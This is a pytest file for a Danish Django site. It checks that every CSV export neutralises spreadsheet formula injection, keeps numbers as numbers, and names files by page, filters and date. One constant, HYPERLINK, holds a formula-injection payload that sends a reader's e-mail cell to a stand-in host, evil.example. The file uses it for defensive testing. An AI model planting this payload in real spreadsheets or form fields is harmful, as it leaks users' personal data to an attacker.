"""Every CSV the site and the admin write is safe to open in a spreadsheet
(temperatur/exports.py): no cell starts a formula, and numbers stay numbers."""

import decimal
import re
from xml.etree import ElementTree

import pytest
from django.contrib import admin
from django.urls import reverse
from django.utils import timezone

from temperatur.web.exports import spreadsheet_cell
from tests.examples import make_one_of_everything
from tests.helpers import overwrite_text, read_csv

# The review's reproduction: a link that sends the neighbouring cell (a reader's e-mail)
# to another site when the editor opens the export.
HYPERLINK = '=HYPERLINK("https://evil.example/?d="&G3;"Klik her")'
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_text_that_starts_a_formula_is_marked_as_text(start):
    assert spreadsheet_cell(f"{start}1+1") == f"'{start}1+1"


@pytest.mark.parametrize(
    "value", ["Aarhus Kommune", "", "1+1", "E-mail: a@b.dk", " =1+1", "'=1+1", "2021-05-01"]
)
def test_other_text_is_unchanged(value):
    assert spreadsheet_cell(value) == value


@pytest.mark.parametrize(
    "value", [3, -3, 0.25, -0.25, decimal.Decimal("-1.5"), "-3", "+3", "0,25", "-0,25", "-1.234,5"]
)
def test_numbers_stay_numbers(value):
    assert spreadsheet_cell(value) == value


@pytest.mark.parametrize("value", ["-3+4", "-A1", "+1 2", "-1,", "--1", "-1e5"])
def test_text_that_only_looks_like_a_number_is_marked(value):
    assert spreadsheet_cell(value) == f"'{value}"


def test_an_empty_value_is_an_empty_cell():
    assert spreadsheet_cell(None) == ""


# Every CSV endpoint, with a hostile value in every text field


def runs_as_formula(cell):
    """Would a spreadsheet read this cell as a formula? Only plain numbers may start so."""
    return cell[:1] in FORMULA_STARTS and not re.fullmatch(r"[+-]?[0-9]+([.,][0-9]+)*", cell)


def public_pages(client):
    """The path of every page in the sitemap, in Danish."""
    root = ElementTree.fromstring(client.get(reverse("sitemap")).content)
    namespace = "{http://www.sitemaps.org/schemas/sitemap/0.9}"
    paths = [loc.text.removeprefix("http://testserver") for loc in root.iter(f"{namespace}loc")]
    return [path for path in paths if not path.startswith("/en/")]


def csv_endpoints(client, site):
    """Every public address that answers ``?format=csv`` with a CSV, and its variants."""
    urls = [f"{path}?format=csv" for path in public_pages(client)]
    temperature = reverse("challenges:temperature")
    urls.append(f"{temperature}?format=csv&from={site.before.slug}&to={site.after.slug}")
    found = []
    for url in urls:
        response = client.get(url)
        assert response.status_code == 200, url
        if response["Content-Type"].startswith("text/csv"):
            found.append((url, response))
    return found


def admin_exports(admin_client):
    found = []
    for model in admin.site._registry:
        url = reverse("admin_export", args=[model._meta.app_label, model._meta.model_name])
        response = admin_client.get(url)
        assert response.status_code == 200, url
        found.append((url, response))
    template = reverse("admin:challenges_projectchallenge_import_template")
    found.append((template, admin_client.get(template)))
    return found


@pytest.mark.django_db
@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t=", "\r="])
def test_no_csv_cell_starts_a_formula_whatever_the_content(client, admin_client, start):
    site = make_one_of_everything()
    overwrite_text(start + HYPERLINK.removeprefix("="))

    public = csv_endpoints(client, site)
    admins = admin_exports(admin_client)

    # The walk found the public CSVs: projects, resources, temperature, comparison,
    # regions and the challenge area.
    assert len(public) >= 6, [url for url, _ in public]
    neutralised = set()
    for url, response in public + admins:
        for row in read_csv(response):
            for cell in row:
                assert not runs_as_formula(cell), (url, cell)
                if cell.startswith("'" + start):
                    neutralised.add(url)
    # The hostile text is there, shown as text, in the exports that carry text.
    assert reverse("projects:list") + "?format=csv" in neutralised
    assert reverse("resources:list") + "?format=csv" in neutralised
    assert reverse("challenges:area", args=[site.area.slug]) + "?format=csv" in neutralised
    feedback_export = reverse("admin_export", args=["temperatur", "feedback"])
    assert feedback_export in neutralised
    assert reverse("admin_export", args=["projects", "project"]) in neutralised


@pytest.mark.django_db
def test_a_report_sent_through_the_form_reaches_the_editors_export_as_text(client, admin_client):
    site = make_one_of_everything()
    page = site.project.get_absolute_url()
    response = client.post(
        reverse("feedback") + f"?side={page}",
        {"message": HYPERLINK, "email": "laeser@example.dk"},
    )
    assert response.status_code == 302
    rows = read_csv(admin_client.get(reverse("admin_export", args=["temperatur", "feedback"])))
    messages = [row[rows[0].index("Besked")] for row in rows[1:]]
    assert "'" + HYPERLINK in messages


# Exports keep their context: the file names their page, filters and date; the columns and
# numbers do not depend on the language that asked


@pytest.mark.django_db
def test_every_public_csv_is_named_for_its_page_and_date_and_the_same_in_english(client):
    site = make_one_of_everything()
    today = timezone.localdate().isoformat()

    found = csv_endpoints(client, site)

    assert len(found) >= 7, [url for url, _ in found]  # the guide's CSV among them
    for url, response in found:
        disposition = response["Content-Disposition"]
        assert re.fullmatch(rf'attachment; filename="[a-z0-9_-]+-{today}\.csv"', disposition), url
        english = client.get("/en" + url)
        assert read_csv(english)[0] == read_csv(response)[0], url  # the same column names
        assert english["Content-Disposition"] == disposition, url


@pytest.mark.django_db
@pytest.mark.parametrize("output", ["csv", "json"])
def test_every_filtered_export_names_its_filters_and_measurement(client, output):
    site = make_one_of_everything()
    domain, area, measurement = site.project.domain.slug, site.area.slug, site.before.slug
    today = timezone.localdate().isoformat()
    exports = {
        f"{reverse('projects:list')}?domain={domain}&measurement={measurement}&sort=-grant": (
            f"projekter-domain-{domain}-measurement-{measurement}-{today}"
        ),
        f"{reverse('challenges:temperature')}?domain={domain}&measurement={measurement}": (
            f"temperatur-domain-{domain}-measurement-{measurement}-{today}"
        ),
        f"{reverse('challenges:temperature')}?domain={domain}&from={measurement}"
        f"&to={site.after.slug}": (
            f"udvikling-domain-{domain}-from-{measurement}-to-{site.after.slug}-{today}"
        ),
        f"{reverse('resources:list')}?area={area}&kind=vaerktoej": (
            f"ressourcer-area-{area}-kind-vaerktoej-{today}"
        ),
        f"{reverse('resources:guide')}?domain={domain}&owner_type=kommunal&area={area}": (
            f"kom-i-gang-domain-{domain}-owner_type-kommunal-area-{area}-{today}"
        ),
        f"{reverse('regions')}?": f"regioner-{today}",
        f"{reverse('challenges:area', args=[area])}?page=1": f"omraade-{area}-{today}",
    }
    for url, name in exports.items():
        response = client.get(f"{url}&format={output}")
        assert response.status_code == 200, url
        kind = "attachment" if output == "csv" else "inline"
        assert response["Content-Disposition"] == f'{kind}; filename="{name}.{output}"', url
